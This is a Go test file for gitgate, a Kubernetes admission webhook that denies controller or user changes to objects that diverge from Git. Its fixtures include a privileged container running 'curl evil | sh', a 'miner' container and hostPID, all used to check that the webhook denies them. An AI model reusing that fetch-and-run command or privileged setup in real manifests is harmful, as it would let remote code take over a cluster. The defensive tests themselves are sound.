package webhook

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	dto "github.com/prometheus/client_model/go"
	admissionv1 "k8s.io/api/admission/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"

	"github.com/gitgate/gitgate/audit"
	"github.com/gitgate/gitgate/provenance"
)

// clusterScope: Namespaces are cluster-scoped, everything else namespaced.
type clusterScope struct{}

func (clusterScope) Namespaced(gk schema.GroupKind) (bool, bool, error) {
	return gk != schema.GroupKind{Kind: "Namespace"}, true, nil
}

const (
	declaredDeployment = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop","labels":{"app":"web"}},
		"spec":{"replicas":2,"selector":{"matchLabels":{"app":"web"}},"template":{"metadata":{"labels":{"app":"web"}},
		"spec":{"containers":[{"name":"web","image":"nginx:1.27"}]}}}}`
	declaredNamespace = `{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"shop"}}`
	operator          = "system:serviceaccount:cert-manager:cert-manager"
)

// gitSnapshot is a real snapshot in which Git declares the Namespace shop
// and the Deployment shop/web.
func gitSnapshot(t *testing.T) *provenance.Snapshot {
	t.Helper()
	ix := &provenance.Indexer{Scope: clusterScope{}, DefaultNamespace: "default"}
	s, err := ix.Build(provenance.Revision{Ref: "main", Hash: "0123456789abcdef0123456789abcdef01234567"}, []provenance.File{
		{Path: "shop/web.yaml", Objects: []map[string]any{object(t, declaredDeployment)}},
		{Path: "shop/namespace.yaml", Objects: []map[string]any{object(t, declaredNamespace)}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return s.Snapshot()
}

func object(t *testing.T, js string) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(js), &m); err != nil {
		t.Fatal(err)
	}
	return m
}

// live is obj as the API server stores it, then changed by edit.
func live(t *testing.T, js string, edit func(map[string]any)) []byte {
	t.Helper()
	m := object(t, js)
	meta := m["metadata"].(map[string]any)
	meta["uid"], meta["resourceVersion"] = "obj-uid", "7"
	if edit != nil {
		edit(m)
	}
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func annotate(m map[string]any) {
	m["metadata"].(map[string]any)["annotations"] = map[string]any{"cert-manager.io/issuer": "ca"}
}

func addFinalizer(m map[string]any) {
	m["metadata"].(map[string]any)["finalizers"] = []any{"finalizers.fluxcd.io"}
}

func setImage(m map[string]any) {
	c := m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)
	c["image"] = "nginx:evil"
}

func addContainer(m map[string]any) {
	spec := m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)
	spec["containers"] = append(spec["containers"].([]any), map[string]any{"name": "miner", "image": "evil:1"})
}

func privileged(m map[string]any) {
	c := m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)
	c["securityContext"] = map[string]any{"privileged": true}
	c["command"] = []any{"/bin/sh", "-c", "curl evil | sh"}
}

func hostPID(m map[string]any) {
	m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["hostPID"] = true
}

func restartAnnotation(m map[string]any) {
	tmpl := m["spec"].(map[string]any)["template"].(map[string]any)
	meta, _ := tmpl["metadata"].(map[string]any)
	if meta == nil {
		meta = map[string]any{}
		tmpl["metadata"] = meta
	}
	meta["annotations"] = map[string]any{"reloader.stakater.com/last-reloaded-from": "cm"}
}

func dropLabel(m map[string]any) {
	delete(m["metadata"].(map[string]any), "labels")
}

func modeLabel(m map[string]any) {
	m["metadata"].(map[string]any)["labels"] = map[string]any{ModeLabel: "audit"}
}

type change struct {
	op                                  admissionv1.Operation
	group, version, kind, resource, obj string
	name, namespace                     string
	edit                                func(map[string]any)
}

var (
	deploymentChange = change{group: "apps", version: "v1", kind: "Deployment", resource: "deployments", obj: declaredDeployment, namespace: "shop", name: "web"}
	namespaceChange  = change{version: "v1", kind: "Namespace", resource: "namespaces", obj: declaredNamespace, namespace: "shop", name: "shop"}
	secretChange     = change{version: "v1", kind: "Secret", resource: "secrets", namespace: "shop", name: "web-tls",
		obj: `{"apiVersion":"v1","kind":"Secret","metadata":{"name":"web-tls","namespace":"shop"},"type":"kubernetes.io/tls"}`}
)

func (c change) with(op admissionv1.Operation, edit func(map[string]any)) change {
	c.op, c.edit = op, edit
	return c
}

// admissionRequest is c as the API server sends it: an update carries the
// stored object and the edited one, a delete the stored one.
func (c change) admissionRequest(t *testing.T, user string) admission.Request {
	req := admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{
		UID: "uid-1", Operation: c.op, Namespace: c.namespace, Name: c.name,
		Kind:     metav1.GroupVersionKind{Group: c.group, Version: c.version, Kind: c.kind},
		Resource: metav1.GroupVersionResource{Group: c.group, Version: c.version, Resource: c.resource},
		UserInfo: authenticationv1.UserInfo{Username: user, Groups: []string{"system:serviceaccounts", "system:authenticated"}},
	}}
	switch c.op {
	case admissionv1.Create:
		req.Object = runtime.RawExtension{Raw: live(t, c.obj, c.edit)}
	case admissionv1.Update:
		req.OldObject = runtime.RawExtension{Raw: live(t, c.obj, nil)}
		req.Object = runtime.RawExtension{Raw: live(t, c.obj, c.edit)}
	case admissionv1.Delete:
		req.OldObject = runtime.RawExtension{Raw: live(t, c.obj, nil)}
	}
	return req
}

// TestControllerRule drives the controller rule through Handle with a real
// Checker and snapshot, in both --fields modes, next to a person making
// the same change.
func TestControllerRule(t *testing.T) {
	snapshot := gitSnapshot(t)
	tests := []struct {
		name   string
		user   string
		change change
		// fields is --fields; "" runs the case in both modes.
		fields provenance.FieldMode

		wantAllowed bool
		wantReason  provenance.Reason
		wantMessage []string // substrings of the denial
	}{
		{name: "controller annotates a declared object", user: operator, change: deploymentChange.with(admissionv1.Update, annotate),
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "controller adds a finalizer", user: "system:serviceaccount:shop:db-operator", change: deploymentChange.with(admissionv1.Update, addFinalizer),
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "controller changes a declared image", user: operator, change: deploymentChange.with(admissionv1.Update, setImage),
			wantReason: provenance.ReasonFieldMismatch,
			wantMessage: []string{"by " + operator + ", judged as a controller (it matches system:serviceaccount:*)", `Git has "nginx:1.27", request has "nginx:evil"`,
				"A controller may change only what Git does not declare: commit the value to https://git.example/fleet.git (main).",
				"run gitgate with --agent " + operator}},
		{name: "controller adds a container to a declared Deployment", user: operator, change: deploymentChange.with(admissionv1.Update, addContainer),
			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"containers[name=miner]", "judged as a controller"}},
		{name: "controller makes a declared container privileged", user: operator, change: deploymentChange.with(admissionv1.Update, privileged),
			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"containers[name=web].securityContext", "judged as a controller"}},
		{name: "controller sets hostPID on a declared Deployment", user: operator, change: deploymentChange.with(admissionv1.Update, hostPID),
			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"spec.template.spec.hostPID"}},
		{name: "controller annotates a declared Pod template", user: operator, change: deploymentChange.with(admissionv1.Update, restartAnnotation),
			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"spec.template.metadata.annotations", "--ignore"}},
		{name: "controller removes a declared label", user: operator, change: deploymentChange.with(admissionv1.Update, dropLabel),
			wantReason: provenance.ReasonFieldMismatch, wantMessage: []string{"metadata.labels", "judged as a controller"}},
		{name: "controller deletes a declared object", user: operator, change: deploymentChange.with(admissionv1.Delete, nil),
			wantReason:  provenance.ReasonManagedDelete,
			wantMessage: []string{"Git declares this object", "A controller may not delete what Git declares", "--agent " + operator}},
		{name: "controller creates a declared object as Git has it", user: operator, change: deploymentChange.with(admissionv1.Create, annotate),
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "controller creates a declared object otherwise", user: operator, change: deploymentChange.with(admissionv1.Create, setImage),
			wantReason: provenance.ReasonFieldMismatch, wantMessage: []string{"judged as a controller"}},
		{name: "controller creates an undeclared Secret", user: operator, change: secretChange.with(admissionv1.Create, nil),
			wantAllowed: true, wantReason: provenance.ReasonNotInGit},
		{name: "controller changes an undeclared Secret", user: operator, change: secretChange.with(admissionv1.Update, annotate),
			wantAllowed: true, wantReason: provenance.ReasonNotInGit},
		{name: "controller deletes an undeclared Secret", user: operator, change: secretChange.with(admissionv1.Delete, nil),
			wantAllowed: true, wantReason: provenance.ReasonNotManaged},
		{name: "controller deletes a namespace Git declares objects in", user: operator, change: namespaceChange.with(admissionv1.Delete, nil),
			wantReason: provenance.ReasonManagedDelete},
		{name: "controller sets gitgate's mode label", user: operator, change: namespaceChange.with(admissionv1.Update, modeLabel),
			wantReason: provenance.ReasonUndeclared, wantMessage: []string{`metadata.labels["gitgate.dev/mode"]`, "gitgate protects this field"}},

		{name: "person annotates a declared object, strict", user: "dev-user", fields: provenance.FieldsStrict, change: deploymentChange.with(admissionv1.Update, annotate),
			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"by dev-user: the request differs", "Commit the change to"}},
		{name: "person annotates a declared object, declared", user: "dev-user", fields: provenance.FieldsDeclared, change: deploymentChange.with(admissionv1.Update, annotate),
			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
		{name: "person changes a declared image", user: "dev-user", change: deploymentChange.with(admissionv1.Update, setImage),
			wantReason: provenance.ReasonFieldMismatch, wantMessage: []string{"by dev-user: the request differs"}},
		{name: "person creates an undeclared Secret", user: "dev-user", change: secretChange.with(admissionv1.Create, nil),
			wantReason: provenance.ReasonNotInGit, wantMessage: []string{"To create it, commit it to"}},
		{name: "person deletes a declared object", user: "dev-user", change: deploymentChange.with(admissionv1.Delete, nil),
			wantReason: provenance.ReasonManagedDelete, wantMessage: []string{"To delete it, remove it from"}},
	}
	for _, tt := range tests {
		modes := []provenance.FieldMode{provenance.FieldsStrict, provenance.FieldsDeclared}
		if tt.fields != "" {
			modes = []provenance.FieldMode{tt.fields}
		}
		for _, fields := range modes {
			t.Run(tt.name+"/"+string(fields), func(t *testing.T) {
				recs := &records{}
				h := &Handler{
					Identities:  DefaultIdentities(),
					Skip:        DefaultSkip(),
					Snapshots:   fixedSnap{snapshot},
					Checker:     &provenance.Checker{Fields: fields},
					Controllers: ControllerChecker(nil),
					Repo:        Repo{URL: "https://git.example/fleet.git"},
					Audit:       recs,
				}
				checkControllerCase(t, h, recs, tt.change.admissionRequest(t, tt.user), tt.wantAllowed, tt.wantReason, tt.wantMessage)
			})
		}
	}
}

func checkControllerCase(t *testing.T, h *Handler, recs *records, req admission.Request, wantAllowed bool, wantReason provenance.Reason, wantMessage []string) {
	t.Helper()
	class, _ := h.Identities.Classify(req.UserInfo)
	decision := "denied"
	if wantAllowed {
		decision = "allowed"
	}
	before := decisionCount(t, string(req.Operation), decision, wantReason, class, "false")
	resp := h.Handle(context.Background(), req)
	if resp.Allowed != wantAllowed {
		t.Fatalf("allowed = %v, want %v (%+v)", resp.Allowed, wantAllowed, resp.Result)
	}
	if got := decisionCount(t, string(req.Operation), decision, wantReason, class, "false") - before; got != 1 {
		t.Errorf("gitgate_admission_decisions_total{decision=%q,reason=%q,class=%q} grew by %v, want 1", decision, wantReason, class, got)
	}
	if wantAllowed {
		if len(recs.list) != 0 {
			t.Errorf("records = %+v, want none", recs.list)
		}
		return
	}
	for _, w := range wantMessage {
		if !strings.Contains(resp.Result.Message, w) {
			t.Errorf("message lacks %q:\n%s", w, resp.Result.Message)
		}
	}
	if len(recs.list) != 1 || recs.list[0].Reason != wantReason || recs.list[0].Class != string(class) {
		t.Errorf("records = %+v, want one with reason %q and class %q", recs.list, wantReason, class)
	}
	if resp.AuditAnnotations["class"] != string(class) {
		t.Errorf("auditAnnotations = %v, want class %q", resp.AuditAnnotations, class)
	}
}

// decisionCount reads one series of gitgate_admission_decisions_total.
func decisionCount(t *testing.T, op, decision string, reason provenance.Reason, class Class, dryRun string) float64 {
	t.Helper()
	var m dto.Metric
	if err := decisions.WithLabelValues(op, decision, string(reason), string(class), dryRun).Write(&m); err != nil {
		t.Fatal(err)
	}
	return m.GetCounter().GetValue()
}

// TestUnjudgedCallersAreCountedByClass: exempt callers, agents and skipped
// resources are allowed without a look, and the metric says which.
func TestUnjudgedCallersAreCountedByClass(t *testing.T) {
	h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{nil}, Checker: fakeChecker{mismatch}}
	dryRun := func(req admission.Request) admission.Request {
		yes := true
		req.DryRun = &yes
		return req
	}
	tests := []struct {
		name   string
		req    admission.Request
		reason provenance.Reason
		class  Class
		dryRun string
	}{
		{"exempt", request("system:kube-scheduler"), reasonExempt, Exempt, "false"},
		{"agent", request("system:serviceaccount:flux-system:source-controller"), reasonAgent, Agent, "false"},
		{"agent's dry run", dryRun(request("system:serviceaccount:flux-system:source-controller")), reasonAgent, Agent, "true"},
		{"person on a node", onResource(request("dev-user"), "", "nodes"), reasonSkippedResource, Person, "false"},
		{"controller on a lease", onResource(request(operator), "coordination.k8s.io", "leases"), reasonSkippedResource, Controller, "false"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := decisionCount(t, "UPDATE", "allowed", tt.reason, tt.class, tt.dryRun)
			if resp := h.Handle(context.Background(), tt.req); !resp.Allowed {
				t.Fatalf("denied: %+v", resp.Result)
			}
			if got := decisionCount(t, "UPDATE", "allowed", tt.reason, tt.class, tt.dryRun) - before; got != 1 {
				t.Errorf("decisions{reason=%q,class=%q,dry_run=%q} grew by %v, want 1", tt.reason, tt.class, tt.dryRun, got)
			}
		})
	}
}

// TestControllerWarning: a controller refused in warn mode
// still gets the controller wording, and the record says controller.
func TestControllerWarning(t *testing.T) {
	recs := &records{}
	h := &Handler{Identities: DefaultIdentities(), Snapshots: fixedSnap{gitSnapshot(t)}, Checker: &provenance.Checker{Fields: provenance.FieldsStrict},
		Controllers: ControllerChecker(nil), Modes: FixedMode(Warn), Audit: recs, Repo: Repo{URL: "https://git.example/fleet.git"}}
	resp := h.Handle(context.Background(), deploymentChange.with(admissionv1.Update, setImage).admissionRequest(t, operator))
	if !resp.Allowed || len(resp.Warnings) != 1 || !strings.Contains(resp.Warnings[0], "gitgate would deny (warn mode) UPDATE of apps/Deployment shop/web by "+operator+", judged as a controller") {
		t.Fatalf("response = %+v", resp)
	}
	if len(recs.list) != 1 || recs.list[0].Decision != audit.Warned || recs.list[0].Class != "controller" {
		t.Errorf("records = %+v", recs.list)
	}
}
